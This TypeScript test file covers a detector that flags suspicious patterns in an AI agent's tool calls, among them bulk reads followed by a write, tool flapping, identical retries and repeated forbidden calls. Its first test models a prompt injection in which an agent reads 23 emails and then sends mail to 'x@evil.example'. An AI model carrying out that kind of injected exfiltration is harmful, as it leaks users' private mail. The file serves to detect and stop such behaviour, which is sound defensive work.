import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { RecentCall, SessionHistory } from '../session/history.js';
import type { StormCall, StormKind, StormsSpec } from './storms.js';
import { stormDefaults, stormsIn } from './storms.js';

const ended = (tool: string, args = '{}', over: Partial<RecentCall> = {}): RecentCall => ({
  ...{ tool, arguments: args, effect: 'read', outcome: 'ok', text: `{"of":"${tool}"}` },
  ...over,
});
const next = (name: string, args = '{}', over: Partial<StormCall> = {}): StormCall => ({
  ...{ name, arguments: args, effect: 'read', forbidden: false },
  ...over,
});
const told = (
  recent: readonly RecentCall[],
  call: StormCall,
  earlier: readonly StormCall[] = [],
  spec?: StormsSpec,
) => {
  const history: SessionHistory = { tallies: [], recent };
  return stormsIn(history, earlier, call, spec).map(({ storm, action, calls }) => `${storm} ${action} ${calls}`);
};
const times = <T>(count: number, one: (at: number) => T): T[] => Array.from({ length: count }, (_, at) => one(at));

describe('dozens of reads, then a write', () => {
  // An injected text has the model gather a mailbox before it sends one message.
  const mailbox = times(23, (at) => ended('read_email', `{"id":${at}}`));
  const send = next('send_email', '{"to":"x@evil.example"}', { effect: 'write' });

  it('are told at the write, with reads of the same answer counted', () => {
    assert.deepEqual(told(mailbox, send), []);
    assert.deepEqual(told(mailbox, send, [next('read_email', '{"id":23}')]), ['readsThenWrite alert 24']);
    assert.deepEqual(told(mailbox, next('read_email', '{"id":24}'), [next('read_email', '{"id":23}')]), []);
  });

  it('begin anew after each write, and reads that were refused are none', () => {
    const write = ended('label_email', '{}', { effect: 'write' });
    assert.deepEqual(told([...mailbox, write, ...mailbox.slice(1)], send, [next('read_email', '{"id":1}')]), []);
    const refused = ended('read_email', '{"id":99}', { outcome: 'failed', reason: 'ARGUMENTS_INVALID' });
    assert.deepEqual(told([...mailbox, refused], send), []);
  });
});

describe('rapid alternation of two tools', () => {
  // A model switches a flag on, looks, switches it off, looks …
  const flapping = (count: number) =>
    times(count, (at) => ended(at % 2 ? 'get_flag' : 'set_flag', `{"on":${at % 4 === 0}}`, { text: String(at) }));

  it('is told once it has gone on for a dozen calls', () => {
    assert.deepEqual(told(flapping(10), next('set_flag')), []);
    assert.deepEqual(told(flapping(11), next('get_flag', '{"at":1}')), ['alternation alert 12']);
  });

  it('ends with a third tool, or two of one in a row', () => {
    assert.deepEqual(told([...flapping(11), ended('list_flags')], next('set_flag')), []);
    assert.deepEqual(told(flapping(11), next('set_flag', '{"x":1}')), []);
  });
});

describe('the same call with the same answer', () => {
  // A model that reads an error and sends the very same arguments again.
  const error = (text: string) =>
    ended('find_user', '{"email":"a@b"}', { outcome: 'failed', reason: 'TOOL_REFUSED', text });
  const again = next('find_user', '{"email":"a@b"}');

  it('is told at the fourth time and stops the session at the sixteenth', () => {
    assert.deepEqual(
      told(
        times(2, () => error('not found')),
        again,
      ),
      [],
    );
    assert.deepEqual(
      told(
        times(3, () => error('not found')),
        again,
      ),
      ['sameCall alert 4'],
    );
    assert.deepEqual(
      told(
        times(15, () => error('not found')),
        again,
      ),
      ['sameCall stop 16'],
    );
  });

  it('counts those of the same answer, and calls in between change nothing', () => {
    const between = [error('not found'), ended('think', '{"a":1}'), error('not found'), ended('think', '{"a":2}')];
    assert.deepEqual(told(between, again, [again]), ['sameCall alert 4']);
  });

  it('is none when the answer changes: whoever polls, waits for that', () => {
    const polls = times(10, (at) => ended('job_status', '{"job":1}', { text: `${at} %` }));
    assert.deepEqual(told(polls, next('job_status', '{"job":1}')), []);
  });
});

describe('repeated forbidden calls', () => {
  const refused = ended('delete_user', '{}', { outcome: 'denied', reason: 'FORBIDDEN', text: 'no' });

  it('are told at the third, whichever tools they are of', () => {
    const other = ended('drop_table', '{}', { outcome: 'denied', reason: 'ARGUMENTS_NOT_ALLOWED', text: 'no' });
    assert.deepEqual(told([refused], next('drop_table', '{}', { forbidden: true })), []);
    assert.deepEqual(told([refused, other], next('pay', '{"a":1}', { forbidden: true })), ['forbidden alert 3']);
  });

  it('are told of no call that is allowed, unless more than an alert is to follow', () => {
    assert.deepEqual(told([refused, refused, refused], next('look')), []);
    const spec: StormsSpec = { forbidden: [{ calls: 3, action: 'park' }] };
    assert.deepEqual(told([refused, refused, refused], next('look'), [], spec), ['forbidden park 3']);
  });
});

describe('thresholds of storms', () => {
  it('are an agent’s own where it states them, the strongest that is reached counts, and an empty list is off', () => {
    const spec: StormsSpec = {
      sameCall: [
        { calls: 3, action: 'stop' },
        { calls: 2, action: 'slow' },
      ],
      alternation: [],
    };
    const calls = times(2, () => ended('look'));
    assert.deepEqual(told(calls.slice(1), next('look'), [], spec), ['sameCall slow 2']);
    assert.deepEqual(told(calls, next('look'), [], spec), ['sameCall stop 3']);
  });

  it('fit into what a session remembers', () => {
    for (const kind of Object.keys(stormDefaults) as StormKind[]) {
      for (const { calls } of stormDefaults[kind]) assert.ok(calls <= 64, kind);
    }
  });
});
